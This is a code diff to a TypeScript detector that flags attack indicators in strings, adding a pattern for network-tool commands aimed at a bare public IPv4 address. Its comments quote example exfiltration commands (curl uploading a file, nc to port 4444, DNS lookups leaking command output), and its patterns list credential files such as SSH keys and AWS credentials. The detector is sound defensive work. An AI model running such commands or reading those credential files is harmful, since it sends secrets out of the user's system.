@@ -22,6 +22,10 @@ const EXECUTABLE_URL = /\.(exe|scr|bat|cmd|ps1|vbs|msi|dll|hta|jar)(\?|#|$)/i
 /** A dotted host name in text (placeholders of built names allowed), optionally with a port. */
 const HOST_TOKEN = /[\w{}-]+(?:\.[\w{}-]+)+(?::\d+)?/g
 const URL_RE = /\b(?:https?|wss?|ftp):\/\/[^\s'"`<>()\\]+/gi
+/** A command line of a network tool, which takes a bare address (`curl -F a=@/flag 203.0.113.7:10113`, `nc 203.0.113.7 4444`). */
+const NETWORK_TOOL_COMMAND = /(^|[\s;&|(`'"])(curl|wget|nc|ncat|netcat|socat|telnet)\s/
+/** An IPv4 address standing alone, with or without a port: not part of a version, a URL or a longer dotted name. */
+const BARE_IPV4 = /(?<![\w.\/:@-])(\d{1,3}(?:\.\d{1,3}){3})(?::\d{1,5})?(?![\w.])/g
 
 const SENSITIVE_PATH =
   /(^|[\\/~'"])(\.ssh[\\/](id_[a-z0-9]+|authorized_keys|known_hosts)|\.ssh\b|\.aws[\\/]credentials|\.npmrc|\.pypirc|\.gem[\\/]credentials|\.docker[\\/]config\.json|\.kube[\\/]config|\.git-credentials|\.netrc|etc[\\/]shadow|etc[\\/]passwd|\.bash_history|\.zsh_history|\.config[\\/]gcloud|\.azure[\\/])/i
@@ -64,6 +68,11 @@ export function indicatorsIn(value: string): FoundIndicator[] {
 
   if (value.length < 20_000) {
     for (const match of value.matchAll(URL_RE)) classifyUrl(match[0], add)
+    // a network tool given a raw address without a scheme reaches it as surely as a URL would
+    if (NETWORK_TOOL_COMMAND.test(value) && !found.some((f) => f.kind === 'raw-ip-url')) {
+      const bare = [...value.matchAll(BARE_IPV4)].find((m) => isPublicIp(m[1]!))
+      if (bare) add('raw-ip-url', bare[0])
+    }
     // host names without a scheme, as DNS and socket calls and shell commands take them
     // (`<data>.<id>.oastify.com`, `x.duckdns.org:4444`, `nslookup $(ls).<id>.oast.fun`)
     const hosts = new Set(value.includes('.') ? value.match(HOST_TOKEN) : [])
